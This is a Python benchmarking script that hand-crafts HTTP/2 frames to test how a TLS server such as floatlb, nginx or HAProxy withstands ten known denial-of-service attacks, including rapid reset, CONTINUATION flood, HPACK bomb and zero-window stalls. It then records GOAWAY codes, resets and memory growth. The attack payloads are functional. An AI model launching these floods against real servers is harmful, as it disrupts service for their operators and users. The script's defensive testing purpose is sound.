#!/usr/bin/python3
"""The HTTP/2 attacks of tests/h2_defences.rs, as a script any TLS HTTP/2
server can be measured with (floatlb, nginx, HAProxy): the same frames, by
hand, over Python's ssl. For docs/http2-defences.md; loopback only.

    h2_attacks.py 127.0.0.1:8443 [--pid PID ...] [attack ...]

For each attack: how the connection ended (GOAWAY and its code, a close, or
still open after the watch), streams refused, streams answered, DATA bytes
received, whether a second client was served during the attack, and the
growth of the given processes' peak RSS (VmHWM, KiB).
"""

import socket
import ssl
import struct
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
         9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hint(first, bits, v):
    top = (1 << bits) - 1
    if v < top:
        return bytes([first | v])
    out = [first | top]
    v -= top
    while v >= 128:
        out.append(v % 128 | 0x80)
        v //= 128
    return bytes(out + [v])


def hstr(s):
    return hint(0, 7, len(s)) + s


def request(path, post=False):
    return (bytes([0x83 if post else 0x82, 0x87]) + hint(0, 4, 4) + hstr(path.encode())
            + hint(0, 4, 1) + hstr(b"a.test"))


def field(name, value):
    return b"\x00" + hstr(name) + hstr(value)


def connect(addr):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(addr, timeout=5)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s = ctx.wrap_socket(raw, server_hostname="a.test")
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    return s


class Watch:
    """The server's frames as they come: what was seen so far."""

    def __init__(self, s):
        self.s, self.buf, self.seen = s, b"", {}

    def pump(self, within, stop_on_end_stream=None):
        """Reads frames until the server closes or `within` seconds pass."""
        seen, end = self.seen, time.monotonic() + within
        while not seen.get("closed"):
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                kind, flags = self.buf[3], self.buf[4]
                sid = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
                p, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
                if kind == GOAWAY and seen.get("goaway") is None:
                    code = struct.unpack(">I", p[4:8])[0]
                    debug = ", " + p[8:].decode(errors="replace") if p[8:] else ""
                    seen["goaway"] = "GOAWAY(%s%s)" % (CODES.get(code, code), debug)
                elif kind == RST_STREAM:
                    code = CODES.get(struct.unpack(">I", p[:4])[0], "?")
                    seen.setdefault("resets", {}).setdefault(code, 0)
                    seen["resets"][code] += 1
                elif kind == HEADERS:
                    seen["answered"] = seen.get("answered", 0) + 1
                    seen.setdefault("status", status(p, flags))
                elif kind == DATA:
                    seen["data"] = seen.get("data", 0) + n
                if sid == stop_on_end_stream and flags & END_STREAM and kind in (HEADERS, DATA):
                    return seen
            left = end - time.monotonic()
            if left <= 0:
                return seen
            self.s.settimeout(left)
            try:
                chunk = self.s.recv(65536)
            except socket.timeout:
                return seen
            except (ssl.SSLError, OSError):
                chunk = b""
            if not chunk:
                seen["closed"] = True
            self.buf += chunk
        return seen


# RFC 7541 Appendix B codes of the ten digits: enough to read a :status.
DIGITS = {("00000"): "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4",
          "011011": "5", "011100": "6", "011101": "7", "011110": "8", "011111": "9"}
STATIC = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}


def status(p, flags):
    """The :status of a response's first header field, if it is the first."""
    if flags & 0x8:
        p = p[1:]
    if flags & 0x20:
        p = p[5:]
    if not p:
        return "?"
    b = p[0]
    if b & 0x80:
        return STATIC.get(b & 0x7F, "?")
    idx = b & 0x3F if b & 0x40 else b & 0x0F
    if idx != 8 and idx not in STATIC:
        return "?"
    ln, huff, val = p[1] & 0x7F, p[1] & 0x80, p[2:2 + (p[1] & 0x7F)]
    if not huff:
        return val.decode(errors="replace")
    bits, out, cur = "".join(format(x, "08b") for x in val), "", ""
    for c in bits:
        cur += c
        if cur in DIGITS:
            out += DIGITS[cur]
            cur = ""
    return out or "?"


def get_ok(addr):
    """One GET / on a fresh connection: answered with a HEADERS frame."""
    try:
        s = connect(addr)
        s.sendall(PREFACE + settings() + frame(SETTINGS, ACK, 0) +
                  frame(HEADERS, END_STREAM | END_HEADERS, 1, request("/")))
        seen = Watch(s).pump(10, stop_on_end_stream=1)
        s.close()
        return seen.get("status") == "200"
    except OSError:
        return False


def peak_kib(pids):
    total = 0
    for pid in pids:
        try:
            for line in open("/proc/%d/status" % pid):
                if line.startswith("VmHWM:"):
                    total += int(line.split()[1])
        except OSError:
            pass
    return total


def attacks():
    bomb = request("/") + b"\x40" + hstr(b"x-bomb") + hstr(b"a" * 4000) + bytes([0x80 | 62]) * 2000
    slow = request("/slow?ms=3000")
    return {
        "rapid-reset": ([], [b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * (w * 100 + i), request("/"))
                                      + frame(RST_STREAM, 0, 1 + 2 * (w * 100 + i), struct.pack(">I", 8))
                                      for i in range(100)) for w in range(20)], 10),
        "continuation-flood": ([], [frame(HEADERS, END_STREAM, 1, request("/"))]
                               + [frame(CONTINUATION, 0, 1, field(b"x-flood", b"continuation")) * 10] * 100, 10),
        "hpack-bomb": ([], [frame(HEADERS, END_STREAM | END_HEADERS, 1, bomb)], 10),
        "header-list-20k": ([], [frame(HEADERS, END_STREAM, 1, (request("/") + field(b"x-big", b"b" * 20000))[:16384]),
                                 frame(CONTINUATION, END_HEADERS, 1, (request("/") + field(b"x-big", b"b" * 20000))[16384:])], 3),
        "settings-flood": ([], [frame(SETTINGS, 0, 0) * 500] * 40, 10),
        "ping-flood": ([], [frame(PING, 0, 0, b"floodxxx") * 500] * 40, 10),
        "stream-exhaustion": ([], [b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * (w * 100 + i), slow)
                                            for i in range(100)) for w in range(13)], 10),
        "empty-data-flood": ([], [frame(HEADERS, END_HEADERS, 1, request("/upload", post=True)),
                                  frame(DATA, 0, 1) * 1000], 10),
        "oversized-frame": ([], [frame(HEADERS, END_HEADERS, 1, bytes(20000))], 10),
        # 35 s: past the 30 s a client that takes nothing is given (floatlb's
        # timeouts.client, HAProxy's timeout client; nginx's send_timeout is 60 s).
        "zero-window": ([(4, 0)], [frame(HEADERS, END_STREAM | END_HEADERS, 1, request("/download?bytes=268435456"))], 35),
    }


def run(addr, name, own, writes, within, pids):
    before = peak_kib(pids)
    s = connect(addr)
    s.sendall(PREFACE + settings(own) + frame(SETTINGS, ACK, 0))
    others = []
    t_other = threading.Thread(target=lambda: others.extend(get_ok(addr) for _ in range(5)))
    t_other.start()
    # One thread: each write, then 10 ms of reading (an ssl socket is not
    # for two threads at once).
    w = Watch(s)
    for chunk in writes:
        if w.seen.get("closed"):
            break
        try:
            s.settimeout(2)
            s.sendall(chunk)
        except (OSError, ssl.SSLError):
            break
        w.pump(0.01)
    seen = w.pump(within)
    t_other.join(60)
    end = seen.get("goaway") or ("closed" if seen.get("closed") else "open after %ds" % within)
    if seen.get("goaway") and not seen.get("closed"):
        end += ", not closed"
    after = peak_kib(pids)
    s.close()
    resets = ",".join("%s:%d" % kv for kv in sorted(seen.get("resets", {}).items())) or "-"
    print("%-19s %-52s resets=%-20s answered=%-4s status=%-4s data=%-8s others=%s/5 rss+=%sKiB" % (
        name, end, resets, seen.get("answered", 0),
        seen.get("status", "-"), seen.get("data", 0), sum(others), after - before if pids else "-"))
    sys.stdout.flush()


def main():
    args = sys.argv[1:]
    host, port = args.pop(0).rsplit(":", 1)
    pids, names = [], []
    while args:
        a = args.pop(0)
        if a == "--pid":
            pids.append(int(args.pop(0)))
        else:
            names.append(a)
    table = attacks()
    for name in names or list(table):
        own, writes, within = table[name]
        run((host, int(port)), name, own, writes, within, pids)
        time.sleep(0.5)


if __name__ == "__main__":
    main()
